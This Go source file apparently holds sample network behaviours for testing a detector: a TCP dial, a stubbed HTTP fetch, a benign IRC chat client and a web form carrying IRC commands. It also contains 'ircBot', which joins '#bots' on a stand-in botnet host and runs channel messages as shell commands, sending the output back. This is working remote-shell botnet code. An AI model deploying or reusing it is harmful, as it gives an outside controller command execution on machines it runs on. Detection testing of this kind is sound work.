package main

import (
	"bufio"
	"fmt"
	"net"
	"os/exec"
	"strings"
	"time"
)

// dial opens a connection and says a word.
func dial(args []string) error {
	conn, err := net.DialTimeout("tcp", arg(args, 0, "198.51.100.7:443"), limit)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = fmt.Fprint(conn, "hello\n")
	return err
}

func httpGet(args []string) error {
	say("GET", arg(args, 0, "http://updates.example.test/latest.json"), "")
	return nil
}

// join enters an IRC channel and calls heard with every line that follows.
func join(server, nick, channel string, heard func(conn net.Conn, line string)) error {
	conn, err := net.DialTimeout("tcp", server, limit)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(limit))
	fmt.Fprintf(conn, "NICK %s\r\nUSER %s 0 * :%s\r\nJOIN %s\r\n", nick, nick, nick, channel)
	lines := bufio.NewScanner(conn)
	for lines.Scan() {
		line := lines.Text()
		if rest, ok := strings.CutPrefix(line, "PING"); ok {
			fmt.Fprintf(conn, "PONG%s\r\n", rest)
			continue
		}
		heard(conn, line)
	}
	return nil // the server hung up, or was silent for long enough
}

// ircBot does what the channel says.
func ircBot(args []string) error {
	return join(arg(args, 0, "irc.botnet.test:6667"), "x86[fr33]", "#bots", func(conn net.Conn, line string) {
		_, said, ok := strings.Cut(line, " PRIVMSG ")
		if !ok {
			return
		}
		_, text, _ := strings.Cut(said, " :")
		command, ok := strings.CutPrefix(text, "!sh ")
		if !ok {
			command, ok = strings.CutPrefix(text, "!* SH ")
		}
		if !ok {
			return
		}
		out, _ := exec.Command("/bin/sh", "-c", command).CombinedOutput()
		fmt.Fprintf(conn, "PRIVMSG #bots :%s\r\n", strings.ReplaceAll(strings.TrimSpace(string(out)), "\n", " | "))
	})
}

// ircClient only chats.
func ircClient(args []string) error {
	greeted := false
	return join(arg(args, 0, "irc.example.test:6667"), "alice", "#gardening", func(conn net.Conn, line string) {
		if !greeted && strings.Contains(line, "JOIN") {
			greeted = true
			fmt.Fprint(conn, "PRIVMSG #gardening :good morning\r\n")
		}
	})
}

// nickForm sends words of IRC in a web form.
func nickForm([]string) error {
	say("POST", "http://forum.example.test/register", "NICK alice\r\nUSER alice 0 * :alice\r\nJOIN #gardening\r\n", "Content-Type", "text/plain")
	return nil
}
